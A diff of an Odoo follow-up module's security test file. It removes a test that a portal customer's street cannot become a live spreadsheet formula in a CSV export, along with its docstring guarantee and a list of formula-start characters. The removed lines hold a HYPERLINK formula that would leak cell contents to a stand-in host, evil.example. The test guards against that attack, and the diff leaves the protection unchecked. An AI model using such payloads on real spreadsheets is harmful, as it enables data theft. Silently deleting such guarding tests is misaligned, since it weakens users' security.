@@ -6,16 +6,10 @@ as a salesperson, a manager, a customer on the portal and bad data would.
 - A step's condition runs at save with its author's rights (no oracle on fields they
   cannot read); one that raises when its step falls due fails that step alone.
 - A test send without a chosen contact renders on a contact the user can read.
-- The register's export never writes a cell a spreadsheet would run as a formula, even
-  for the street a customer typed on the portal.
 - A public holiday ending in 9999 is refused at save, and one already stored holds back
   its own company only, at a bounded cost.
 """
 
-import base64
-import csv
-import io
-import re
 import time
 import xmlrpc.client
 from datetime import datetime
@@ -25,14 +19,9 @@ from odoo.exceptions import UserError, ValidationError
 from odoo.tests import HttpCase, get_db_name, tagged
 from odoo.tools import mute_logger
 
-from odoo.addons.mail.tests.common import mail_new_test_user
-
-from .common import CSRF_RE, FollowupSecurityCase
+from .common import FollowupSecurityCase
 from .mail_gateway_common import FollowupGatewayCase
-from .test_register import RegisterCase
 from .test_step_preview import StepPreviewMixin
-
-FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 
 @tagged("post_install", "-at_install")
@@ -246,51 +235,6 @@ class TestHostileTestSend(FollowupGatewayCase, FollowupSecurityCase, StepPreview
         with self._sent_messages() as sent:
             self.step_email.with_user(self.user_salesman).action_send_test()
         self.assertEqual(sent[0]["Subject"], "[Test] Help us help you, Sam Salesman")
-
-
-@tagged("post_install", "-at_install")
-class TestHostileRegisterExport(RegisterCase, HttpCase):
-    def test_a_street_typed_on_the_portal_is_never_run_by_a_spreadsheet(self):
-        portal_user = mail_new_test_user(
-            self.env, login="fm_portal_it", name="Piero Portale", groups="base.group_portal"
-        )
-        partner = portal_user.partner_id
-        partner.write({"country_id": self.italy.id, "customer_rank": 1})
-        street = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
-        self.authenticate(portal_user.login, portal_user.login)
-        page = self.url_open("/my/account")
-        csrf = CSRF_RE.search(page.text).group(1)
-        self.url_open(
-            "/my/account",
-            data={
-                "csrf_token": csrf,
-                "name": "Piero Portale",
-                "email": "piero@example.com",
-                "phone": "+39 06 4991 0009",
-                "street": street,
-                "city": "Roma",
-                "zipcode": "00184",
-                "country_id": str(self.italy.id),
-            },
-        )
-        partner.invalidate_recordset()
-        self.assertEqual(partner.street, street, "the portal saved it as typed")
-        with self._at(self.MONDAY_10_ROME):
-            action = partner.with_user(self.user_manager).action_followup_rpo_export()
-        wizard = self.env["followup.rpo.export"].browse(action["res_id"])
-        rows = list(
-            csv.reader(
-                io.StringIO(base64.b64decode(wizard.file).decode(), newline=""), delimiter=";"
-            )
-        )
-        values = [value for _kind, value in rows[1:]]
-        self.assertIn("'" + street.upper() + ", 00184 ROMA", values)
-        for value in values:
-            # A number in E.164 (+ and digits) is a number for a spreadsheet.
-            with self.subTest(value=value):
-                self.assertTrue(
-                    re.fullmatch(r"\+[0-9]+", value) or not value.startswith(FORMULA_STARTS)
-                )
 
 
 @tagged("post_install", "-at_install")
